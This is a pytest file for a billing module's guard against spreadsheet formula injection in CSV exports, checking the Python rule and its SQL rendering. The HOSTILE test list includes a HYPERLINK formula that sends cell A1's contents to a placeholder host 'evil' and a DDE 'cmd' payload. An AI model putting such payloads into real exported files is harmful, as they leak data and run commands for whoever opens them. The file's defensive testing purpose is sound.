"""The rule that keeps exported text inert in a spreadsheet, and its SQL rendering."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from sqlalchemy import String, literal, literal_column, select, union_all

from billing.cells import csv_field, csv_line, guard_sql, quoted_sql, spreadsheet_text

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 170 1234567",
    "-2+3",
    "  =1+1",
    '"=1+1"',
    "'=1+1",
    " '\"@x",
    "\t=1",
    "\tPlain after a tab",
    "\rhidden",
    "\nhidden",
    "\uff1dSUM(A1)",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
]
HARMLESS = [
    "",
    "Jobcenter Dortmund",
    "Caritas – Süd",
    "KST-4711",
    "a=b",
    "1+1",
    "   ",
    "''",
    "Zoë\nO'Brien",
    "#N/A",
    "\u00a0=not skipped: no-break space is not padding",
    "ÄÖÜ=",
    # Around the ends of the ranges the database settles by comparison alone.
    "A",
    "?x",
    ".5",
    "0",
    "9-1",
    "<b>",
    "!=",
    "\uff0a=",
    "\uff21",
    "\U0001f600=",
]


class TestRule:
    @pytest.mark.parametrize("value", HOSTILE)
    def test_formula_starts_get_a_leading_quote(self, value):
        """A cell a spreadsheet would evaluate, even after spaces or quotes, becomes text."""
        assert spreadsheet_text(value) == "'" + value

    @pytest.mark.parametrize("value", HARMLESS)
    def test_other_text_is_left_alone(self, value):
        """Everything else is written exactly as it is."""
        assert spreadsheet_text(value) == value


async def test_the_sql_rendering_is_the_same_rule(db):
    """The database (SQLite and PostgreSQL) prefixes exactly what spreadsheet_text does."""
    texts = [*HOSTILE, *HARMLESS]
    table = union_all(
        *[select(literal(n).label("n"), literal(v, String).label("v")) for n, v in enumerate(texts)]
    ).subquery("t")
    async with db.read() as session:
        conn = await session.connection()
        rendered_sql = guard_sql("t.v", conn.dialect.name)
        query: Any = select(literal_column(rendered_sql)).select_from(table).order_by(table.c.n)
        rendered = (await conn.execute(query)).scalars().all()
    assert rendered == [spreadsheet_text(v) for v in texts]


QUOTING = ["plain", "a,b", "a;b", 'say "hi"', "two\nlines", "cr\rhere", "", " padded ", "'quoted'"]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_fields_are_quoted_as_csv_writer_quotes_them(delimiter):
    """csv_line writes exactly what Python's csv.writer writes for the same fields."""
    expected = io.StringIO()
    csv.writer(expected, delimiter=delimiter, lineterminator="\r\n").writerow(QUOTING)
    assert csv_line(QUOTING, delimiter) == expected.getvalue()


async def test_the_sql_quoting_is_the_same_rule(db):
    """The database quotes a text cell exactly as csv_field does."""
    table = union_all(
        *[
            select(literal(n).label("n"), literal(v, String).label("v"))
            for n, v in enumerate(QUOTING)
        ]
    ).subquery("t")
    async with db.read() as session:
        conn = await session.connection()
        rendered_sql = quoted_sql("t.v", "t.v", ",", conn.dialect.name)
        query: Any = select(literal_column(rendered_sql)).select_from(table).order_by(table.c.n)
        rendered = (await conn.execute(query)).scalars().all()
    assert rendered == [csv_field(v, ",") for v in QUOTING]
